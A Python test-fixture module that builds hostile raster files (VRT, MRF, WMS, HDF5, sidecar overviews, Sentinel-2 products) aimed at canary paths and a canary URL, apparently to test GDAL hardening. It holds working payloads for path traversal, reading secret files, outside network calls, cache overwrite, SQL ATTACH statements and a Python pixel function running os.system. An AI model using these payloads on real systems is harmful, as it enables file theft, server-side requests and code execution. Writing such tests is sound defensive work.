"""Write hostile rasters: files that make GDAL read, write or call what nobody asked for.

Each maker writes one raster into a folder and gives the path that a victim would open. They aim
at a `Canary`: a file that must not grow, one that must not be read, an address that must not be
called.
"""

import html
import shutil
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

import h5py
import numpy as np
import rasterio
from affine import Affine

from tests.sentinel2_safe import band_file, make_safe

SIZE = 64


@dataclass(frozen=True)
class Canary:
    """What a hostile raster aims at."""

    victim: Path
    secret: Path
    url: str


def tiff(path, driver="GTiff", **overviews):
    """Write a good image; ``overviews`` become items of its metadata domain OVERVIEWS."""
    profile = {"width": SIZE, "height": SIZE, "count": 3, "dtype": "uint8", "crs": "EPSG:32632"}
    transform = Affine(1, 0, 0, 0, -1, 5000000)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with rasterio.open(path, "w", driver=driver, transform=transform, **profile) as dataset:
            dataset.write(
                np.random.default_rng(0).integers(1, 255, (3, SIZE, SIZE)).astype("uint8")
            )
            if overviews:
                dataset.update_tags(ns="OVERVIEWS", **overviews)
    return path


def vrt(source, relative=0, extra="", size=SIZE):
    """Return a VRT over one source."""
    name = html.escape(str(source))
    return (
        f'<VRTDataset rasterXSize="{size}" rasterYSize="{size}"><SRS>EPSG:32632</SRS>'
        f"<GeoTransform>0,1,0,5000000,0,-1</GeoTransform>{extra}"
        "<VRTRasterBand "
        f'dataType="Byte" band="1"><SimpleSource><SourceFilename relativeToVRT="{relative}">{name}'
        "</SourceFilename><SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>"
    )


def raw_vrt(file):
    """Return a VRT that takes any file for pixels."""
    return (
        f'<VRTDataset rasterXSize="{SIZE}" rasterYSize="{SIZE}"><VRTRasterBand dataType="Byte" '
        f'band="1" subClass="VRTRawRasterBand"><SourceFilename relativeToVRT="0">{file}'
        "</SourceFilename><ImageOffset>0</ImageOffset><PixelOffset>1</PixelOffset><LineOffset>"
        f"{SIZE}</LineOffset></VRTRasterBand></VRTDataset>"
    )


def mrf(folder, canary):
    """Return an MRF document whose cache, once filled, is the victim."""
    source = folder / "cached.tif"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with rasterio.open(
            source, "w", driver="GTiff", width=SIZE, height=SIZE, count=1, dtype="uint8"
        ) as dataset:
            dataset.write(np.full((1, SIZE, SIZE), 65, "uint8"))
    return (
        f"<MRF_META><CachedSource><Source>{source}</Source></CachedSource><Raster>"
        f'<Size x="{SIZE}" y="{SIZE}" c="1"/><PageSize x="{SIZE}" y="{SIZE}" c="1"/>'
        f"<Compression>NONE</Compression><DataFile>{canary.victim}</DataFile>"
        f"<IndexFile>{folder}/index</IndexFile></Raster></MRF_META>"
    )


def wms(folder, canary):
    """Return a document of GDAL_WMS with a cache on disk."""
    return (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{canary.url}/${{z}}/${{x}}/${{y}}.png'
        "</ServerUrl></Service><DataWindow><UpperLeftX>0</UpperLeftX><UpperLeftY>10</UpperLeftY>"
        "<LowerRightX>10</LowerRightX><LowerRightY>0</LowerRightY><TileLevel>0</TileLevel>"
        "<TileCountX>1</TileCountX><TileCountY>1</TileCountY></DataWindow><BlockSizeX>256"
        "</BlockSizeX><BlockSizeY>256</BlockSizeY><BandsCount>3</BandsCount><Cache><Path>"
        f"{folder}/cache</Path><Depth>0</Depth></Cache></GDAL_WMS>"
    )


def wcs(folder, canary):
    """Return a document of a web coverage service."""
    return (
        f"<WCS_GDAL><ServiceURL>{canary.url}/?</ServiceURL><CoverageName>a</CoverageName>"
        "</WCS_GDAL>"
    )


def gti(folder, canary):
    """Return a tile index that names the secret."""
    index = folder / "index.geojson"
    index.write_text(
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"location":"'
        f'{canary.secret}"}},"geometry":{{"type":"Polygon","coordinates":'
        "[[[0,0],[1,0],[1,1],[0,1],[0,0]]]}}]}"
    )
    return (
        f"<GDALTileIndexDataset><IndexDataset>{index}</IndexDataset>"
        "<LocationField>location</LocationField></GDALTileIndexDataset>"
    )


def pam(item):
    """Return the document of an .aux.xml that names a file of overviews."""
    return (
        '<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">'
        f"{html.escape(str(item))}</MDI></Metadata></PAMDataset>"
    )


# ------------------------------------------------------------ one TIFF, and files beside it


def overview_file(value):
    """Return a maker of a TIFF whose metadata name ``value(folder, canary)`` as overviews."""

    def make(folder, canary):
        return tiff(folder / "scene.tif", OVERVIEW_FILE=str(value(folder, canary)))

    return make


def with_sidecar(end, content, name="scene.tif", driver="GTiff"):
    """Return a maker of a good image with ``content(folder, canary)`` in the file name + end."""

    def make(folder, canary):
        path = tiff(folder / name, driver)
        (folder / f"{name}{end}").write_text(content(folder, canary))
        return path

    return make


def with_two_sidecars(first, second, content):
    """Return a maker of a good TIFF with a good sidecar which has a hostile one of its own."""

    def make(folder, canary):
        path = tiff(folder / "scene.tif")
        tiff(folder / f"scene.tif{first}")
        (folder / f"scene.tif{first}{second}").write_text(content(folder, canary))
        return path

    return make


def sidecar_with_item(end):
    """Return a maker of a TIFF whose sidecar is a TIFF that names overviews elsewhere."""

    def make(folder, canary):
        tiff(folder / f"scene.tif{end}", OVERVIEW_FILE=vrt(canary.secret))
        return tiff(folder / "scene.tif")

    return make


def linked_sidecar(folder, canary):
    """Write a TIFF whose overviews are a link to a TIFF elsewhere."""
    (folder / "scene.tif.ovr").symlink_to(tiff(canary.secret.parent / "private.tif"))
    return tiff(folder / "scene.tif")


def sidecar_in_archive(folder, canary):
    """Write an archive of a TIFF and overviews that are a VRT."""
    tiff(folder / "scene.tif")
    with zipfile.ZipFile(folder / "scene.zip", "w") as archive:
        archive.write(folder / "scene.tif", "in/scene.tif")
        archive.writestr("in/scene.tif.OVR", vrt(canary.secret))
    return f"/vsizip/{folder}/scene.zip/in/scene.tif"


def grid_by_path(folder, canary):
    """Write a TIFF whose CRS names a grid file by its path."""
    path = tiff(folder / "scene.tif")
    (folder / "scene.tif.aux.xml").write_text(
        '<PAMDataset><SRS>GEOGCS["a",DATUM["b",SPHEROID["c",6378137,298.25],EXTENSION['
        f'"PROJ4_GRIDS","{canary.secret}"]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
        "</SRS></PAMDataset>"
    )
    return path


PICTURES = {
    "overview item, VRT over MRF": overview_file(lambda f, c: vrt(mrf(f, c))),
    "overview item, raw file": overview_file(lambda f, c: raw_vrt(c.secret)),
    "overview item, path": overview_file(lambda f, c: tiff(c.secret.parent / "private.tif")),
    "overview item, relative path": overview_file(lambda f, c: ":::BASE:::../private.tif"),
    "overview item, address": overview_file(lambda f, c: f"/vsicurl/{c.url}/a.tif"),
    "overview item, VRT beside": overview_file(
        lambda f, c: (f / "b.vrt").write_text(vrt(c.secret)) and f / "b.vrt"
    ),
    "mask, VRT": with_sidecar(".msk", lambda f, c: vrt(c.secret)),
    "mask in capitals, raw file": with_sidecar(".MSK", lambda f, c: raw_vrt(c.secret)),
    "mask, address": with_sidecar(".msk", lambda f, c: vrt(f"/vsicurl/{c.url}/a.tif")),
    "mask, VRT over MRF": with_sidecar(".msk", lambda f, c: vrt(mrf(f, c))),
    "overviews, VRT": with_sidecar(".ovr", lambda f, c: vrt(c.secret)),
    "overviews in mixed letters, VRT": with_sidecar(".oVr", lambda f, c: vrt(c.secret)),
    "overviews, MRF": with_sidecar(".ovr", mrf),
    "overviews, WMS": with_sidecar(".ovr", wms),
    "overviews of a PNG, VRT": with_sidecar(".ovr", lambda f, c: vrt(c.secret), "a.png", "PNG"),
    "mask of a JPEG, MRF": with_sidecar(".msk", mrf, "a.jpg", "JPEG"),
    "overviews of a JPEG 2000, VRT": with_sidecar(
        ".ovr", lambda f, c: vrt(c.secret), "a.jp2", "JP2OpenJPEG"
    ),
    "overviews of the mask, VRT": with_two_sidecars(".msk", ".ovr", lambda f, c: vrt(c.secret)),
    "mask of the overviews, MRF": with_two_sidecars(".ovr", ".msk", mrf),
    "metadata of the overviews, VRT": with_two_sidecars(
        ".ovr", ".aux.xml", lambda f, c: pam(vrt(c.secret))
    ),
    "overviews with an item, VRT": sidecar_with_item(".ovr"),
    "mask with an item, VRT": sidecar_with_item(".msk"),
    "metadata beside a TIFF": with_sidecar(".aux.xml", lambda f, c: pam(vrt(mrf(f, c)))),
    "metadata beside a PNG": with_sidecar(
        ".aux.xml", lambda f, c: pam(vrt(c.secret)), "a.png", "PNG"
    ),
    "metadata beside an ERDAS image": with_sidecar(
        ".aux.xml", lambda f, c: pam(vrt(c.secret)), "a.img", "HFA"
    ),
    "overviews that are a link": linked_sidecar,
    "overviews in an archive": sidecar_in_archive,
    "a grid file of PROJ": grid_by_path,
}

# ------------------------------------------------------------ documents under an image's name


def document(name, content):
    """Return a maker of one file with a document that a driver of GDAL follows."""

    def make(folder, canary):
        (folder / name).write_text(content(folder, canary))
        return folder / name

    return make


def in_a_list(folder, canary):
    """Write a list of rasters, of which one is a document."""
    good = tiff(folder / "good.tif")
    bad = document("bad.png", mrf)(folder, canary)
    (folder / "list.txt").write_text(f"{good}\n{bad}\n")
    return f"@{folder / 'list.txt'}"


def in_a_folder(folder, canary):
    """Write a folder of rasters, of which one has a hostile mask."""
    place = folder / "tiles"
    place.mkdir()
    tiff(place / "a.tif")
    tiff(place / "b.tif")
    (place / "b.tif.msk").write_text(vrt(canary.secret))
    return place


DOCUMENTS = {
    "MRF called png": document("scene.png", mrf),
    "MRF called tif": document("scene.tif", mrf),
    "MRF called img": document("scene.img", mrf),
    "WMS called png": document("scene.png", wms),
    "WMS called jp2": document("scene.jp2", wms),
    "WMS of no format": document("scene", wms),
    "WCS called jpg": document("scene.jpg", wcs),
    "tile index called png": document("scene.png", gti),
    "tile index called gti": document("scene.gti", gti),
    "VRT called jp2": document("scene.jp2", lambda f, c: raw_vrt(c.secret)),
    "VRT called xml": document("scene.xml", lambda f, c: vrt(c.secret)),
    "one of a list": in_a_list,
    "one of a folder": in_a_folder,
}

# ------------------------------------------------------------ VRTs


def linked_source(folder, canary):
    """Return a VRT over a link beside it that leads elsewhere."""
    (folder / "inner.tif").symlink_to(tiff(canary.secret.parent / "private.tif"))
    return vrt("inner.tif", 1)


def nested(inner):
    """Return a function that writes ``inner`` as inner.vrt, and gives a VRT over it."""

    def make(folder, canary):
        (folder / "inner.vrt").write_text(inner(folder, canary))
        return vrt("inner.vrt", 1)

    return make


def named(name, content):
    """Return a function that writes ``content`` as a file, and gives a VRT over it."""

    def make(folder, canary):
        (folder / name).write_text(content(folder, canary))
        return vrt(name, 1)

    return make


def good(folder, **edit):
    """Return a harmless VRT over a TIFF beside it, with texts of it replaced."""
    tiff(folder / "good.tif")
    text = vrt("good.tif", 1)
    for old, new in edit.values():
        assert old in text
        text = text.replace(old, new)
    return text


def warped(source, more=""):
    """Return a VRT of the warper."""
    return (
        f'<VRTDataset rasterXSize="{SIZE}" rasterYSize="{SIZE}" subClass="VRTWarpedDataset">'
        '<VRTRasterBand dataType="Byte" band="1" subClass="VRTWarpedRasterBand"/><GDALWarpOptions>'
        f'<SourceDataset relativeToVRT="0">{source}</SourceDataset>{more}<BandList><BandMapping '
        'src="1" dst="1"/></BandList></GDALWarpOptions></VRTDataset>'
    )


def html_twice(folder, canary):
    """Return a VRT whose source is a document within a document."""
    return vrt(vrt(raw_vrt(canary.secret)))


def outside_archive(folder, canary):
    """Return a VRT over a TIFF in an archive elsewhere."""
    tiff(folder / "a.tif")
    with zipfile.ZipFile(canary.secret.parent / "private.zip", "w") as archive:
        archive.write(folder / "a.tif", "a.tif")
    return vrt(f"/vsizip/{canary.secret.parent}/private.zip/a.tif")


def source_with_item(folder, canary):
    """Return a VRT over a TIFF that names overviews elsewhere."""
    tiff(folder / "good.tif", OVERVIEW_FILE=vrt(canary.secret))
    return vrt("good.tif", 1)


def source_with_mask(folder, canary):
    """Return a VRT over a TIFF with a hostile mask."""
    tiff(folder / "good.tif")
    (folder / "good.tif.msk").write_text(vrt(mrf(folder, canary)))
    return vrt("good.tif", 1)


FOLDER_ATTRIBUTE = ('<SourceFilename relativeToVRT="1">good.tif</SourceFilename>', "")
VRTS = {
    "a path elsewhere": lambda f, c: vrt(tiff(c.secret.parent / "private.tif")),
    "a relative path elsewhere": lambda f, c: vrt(f"../{c.secret.name}", 1),
    "a path through the folder": lambda f, c: vrt(f"x/../../{c.secret.name}", 1),
    "a link": linked_source,
    "an address": lambda f, c: vrt(f"/vsicurl/{c.url}/a.tif"),
    "a plain address": lambda f, c: vrt(f"{c.url}/a.tif"),
    "an archive at an address": lambda f, c: vrt(f"/vsizip/vsicurl/{c.url}/a.zip/a.tif"),
    "an archive elsewhere": outside_archive,
    "a part of a file elsewhere": lambda f, c: vrt(f"/vsisubfile/0_99,{c.secret}"),
    "a sparse file": lambda f, c: vrt(f"/vsisparse/{f}/sparse.xml"),
    "a document in place of a name": html_twice,
    "MRF in place of a name": lambda f, c: vrt(mrf(f, c)),
    "WMS in place of a name": lambda f, c: vrt(wms(f, c)),
    "MRF called tif": named("inner.tif", mrf),
    "WMS called png": named("inner.png", wms),
    "tile index called png": named("inner.png", gti),
    "a driver's prefix": lambda f, c: vrt(f"GTI:{f}/index.gpkg"),
    "vrt://": lambda f, c: vrt(f"vrt://{c.secret}?bands=1"),
    "derived subdataset": lambda f, c: vrt(f"DERIVED_SUBDATASET:LOGAMPLITUDE:{c.secret}"),
    "a raw band": lambda f, c: raw_vrt(c.secret),
    "a VRT with a raw band": nested(lambda f, c: raw_vrt(c.secret)),
    "a VRT with a path elsewhere": nested(lambda f, c: vrt(c.secret)),
    "itself": lambda f, c: vrt("scene.vrt", 1, extra="<Missing/>"),
    "a TIFF with an overview item": source_with_item,
    "a TIFF with a hostile mask": source_with_mask,
    "a file named by an attribute": lambda f, c: good(
        f,
        a=(FOLDER_ATTRIBUTE[0], ""),
        b=("<SimpleSource>", f'<SimpleSource SourceFilename="{c.secret}">'),
    ),
    "small letters": lambda f, c: (
        vrt(c.secret)
        .replace("SourceFilename", "sourcefilename")
        .replace("relativeToVRT", "RELATIVETOVRT")
    ),
    "overviews elsewhere": lambda f, c: good(
        f,
        a=(
            "</SimpleSource>",
            f'</SimpleSource><Overview><SourceFilename relativeToVRT="0">{c.secret}'
            "</SourceFilename><SourceBand>1</SourceBand></Overview>",
        ),
    ),
    "overview item": lambda f, c: good(
        f,
        a=(
            "<VRTRasterBand ",
            '<Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">'
            f"{html.escape(vrt(c.secret))}</MDI></Metadata><VRTRasterBand ",
        ),
    ),
    "a mask elsewhere": lambda f, c: good(
        f,
        a=(
            "</VRTDataset>",
            '<MaskBand><VRTRasterBand dataType="Byte"><SimpleSource><SourceFilename '
            f'relativeToVRT="0">{c.secret}</SourceFilename><SourceBand>1</SourceBand>'
            "</SimpleSource></VRTRasterBand></MaskBand></VRTDataset>",
        ),
    ),
    "the warper, a path elsewhere": lambda f, c: warped(c.secret),
    "the warper, a terrain model": lambda f, c: warped(
        tiff(f / "good.tif"),
        "<Transformer><GenImgProjTransformer><SrcRPCTransformer><RPCTransformer><DEMPath>"
        f"{c.secret}</DEMPath></RPCTransformer></SrcRPCTransformer></GenImgProjTransformer>"
        "</Transformer>",
    ),
    "the warper, places in a file": lambda f, c: warped(
        tiff(f / "good.tif"),
        "<Transformer><GenImgProjTransformer><SrcGeoLocTransformer><GeoLocTransformer><Metadata>"
        f'<MDI key="X_DATASET">{c.secret}</MDI></Metadata></GeoLocTransformer>'
        "</SrcGeoLocTransformer></GenImgProjTransformer></Transformer>",
    ),
    "a pixel function in Python": lambda f, c: good(
        f,
        a=(
            'band="1">',
            'band="1" subClass="VRTDerivedRasterBand"><PixelFunctionType>f</PixelFunctionType>'
            "<PixelFunctionLanguage>Python</PixelFunctionLanguage><PixelFunctionCode>"
            f"import os; os.system('echo x >> {c.victim}')</PixelFunctionCode>",
        ),
    ),
    "processing steps": lambda f, c: (
        '<VRTDataset subClass="VRTProcessedDataset"><Input><SourceFilename relativeToVRT="1">'
        f"{tiff(f / 'good.tif').name}</SourceFilename></Input><ProcessingSteps><Step>"
        '<Algorithm>LocalScaleOffset</Algorithm><Argument name="gain_dataset_filename_1">'
        f"{c.secret}</Argument></Step></ProcessingSteps></VRTDataset>"
    ),
    "statements of SQL": lambda f, c: good(
        f,
        a=(
            "<SourceBand>",
            "<OpenOptions><OOI key='PRELUDE_STATEMENTS'>ATTACH DATABASE "
            f"'{c.victim}' AS a</OOI></OpenOptions><SourceBand>",
        ),
    ),
    "an entity": lambda f, c: '<!DOCTYPE a [<!ENTITY e "x">]>' + vrt(c.secret),
    "an instruction": lambda f, c: good(
        f, a=("<SourceBand>", f"<?a><SourceFilename>{c.secret}</SourceFilename><b ?><SourceBand>")
    ),
    "a grid file of PROJ": lambda f, c: good(
        f, a=("<VRTRasterBand ", f"<SRS>+proj=longlat +nadgrids={c.secret}</SRS><VRTRasterBand ")
    ),
    "arrays of several dimensions": lambda f, c: (
        '<VRTDataset><Group name="/"><Dimension name="x" size="4"/><Array name="a"><DataType>Byte'
        '</DataType><DimensionRef ref="x"/><Source><SourceFilename relativeToVRT="0">'
        f"{c.secret}</SourceFilename></Source></Array></Group></VRTDataset>"
    ),
}


def vrt_maker(content):
    """Return a maker of scene.vrt."""
    return document("scene.vrt", content)


# ------------------------------------------------------------ HDF5


def hdf5(name, fill, **options):
    """Return a maker of an HDF5 file that ``fill(file, canary)`` fills."""

    def make(folder, canary):
        with h5py.File(folder / name, "w", **options) as file:
            fill(file, canary)
        return folder / name

    return make


def external_data(file, canary):
    """Add a data set whose bytes are those of the secret."""
    creation = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    creation.set_external(str(canary.secret).encode(), 0, 4096)
    space = h5py.h5s.create_simple((SIZE, SIZE))
    h5py.h5d.create(file.id, b"z", h5py.h5t.STD_U8LE, space, creation)


def external_link(file, canary):
    """Add a link to a data set of another file."""
    other = canary.secret.parent / "other.h5"
    with h5py.File(other, "w") as content:
        content["d"] = np.full((SIZE, SIZE), 9, "u1")
    file["a"] = np.full((SIZE, SIZE), 7, "u1")
    file["z"] = h5py.ExternalLink(str(other), "/d")


def virtual_data(file, canary):
    """Add a virtual data set over another file, in a group of a group."""
    other = canary.secret.parent / "other.h5"
    with h5py.File(other, "w") as content:
        content["d"] = np.full((SIZE, SIZE), 9, "u1")
    layout = h5py.VirtualLayout((SIZE, SIZE), "u1")
    layout[:] = h5py.VirtualSource(str(other), "d", (SIZE, SIZE))
    file.create_group("a/b").create_virtual_dataset("z", layout)


def subdataset(make, form):
    """Return a maker that gives GDAL's name of a data set in the file."""
    return lambda folder, canary: form.format(make(folder, canary))


HDF5 = {
    "external data": hdf5("scene.h5", external_data),
    "external data called nc": hdf5("scene.nc", external_data),
    "external data called tiff": hdf5("scene.dat", external_data),
    "external data after a user block": hdf5("scene.h5", external_data, userblock_size=1024),
    "a subdataset with external data": subdataset(hdf5("scene.h5", external_data), 'HDF5:"{}"://z'),
    "a variable with external data": subdataset(hdf5("scene.nc", external_data), "NETCDF:{}:z"),
    "an external link": subdataset(hdf5("scene.nc", external_link), 'NETCDF:"{}":z'),
    "virtual data": hdf5("scene.h5", virtual_data),
    "a VRT over external data": lambda f, c: document(
        "scene.vrt",
        lambda f, c: vrt(f'HDF5:"{hdf5("scene.h5", external_data)(f, c)}"://z'),
    )(f, c),
}

# ------------------------------------------------------------ products of Sentinel-2


def safe(change, zipped=False):
    """Return a maker of a SAFE folder after ``change(root, folder, canary)``."""

    def make(folder, canary):
        root, _ = make_safe(folder, side=24)
        change(root, folder, canary)
        if zipped:
            return shutil.make_archive(str(folder / "product"), "zip", folder, root.name)
        return root

    return make


def band(content):
    """Return a change: a band becomes a document."""
    return lambda root, folder, canary: band_file(root, "B03").write_text(content(folder, canary))


def band_sidecar(root, folder, canary):
    """Put overviews that are a VRT beside a band."""
    file = band_file(root, "B08")
    file.with_name(f"{file.name}.ovr").write_text(vrt(canary.secret))


def image_outside(root, folder, canary):
    """Let the metadata name images outside the product."""
    metadata = root / "MTD_MSIL2A.xml"
    metadata.write_text(metadata.read_text().replace(">GRANULE/", ">../elsewhere/"))


SAFES = {
    "a band is a VRT": safe(band(lambda f, c: vrt(c.secret))),
    "a band is MRF": safe(band(mrf)),
    "a band is WMS": safe(band(wms)),
    "a band is MRF, in an archive": safe(band(mrf), zipped=True),
    "overviews of a band are a VRT": safe(band_sidecar),
    "metadata name other folders": safe(image_outside),
}

ALL = {
    **{f"picture: {name}": make for name, make in PICTURES.items()},
    **{f"document: {name}": make for name, make in DOCUMENTS.items()},
    **{f"VRT: {name}": vrt_maker(content) for name, content in VRTS.items()},
    **{f"HDF5: {name}": make for name, make in HDF5.items()},
    **{f"Sentinel-2: {name}": make for name, make in SAFES.items()},
}
"""Maker of each hostile raster: (folder, canary) -> what the victim opens."""
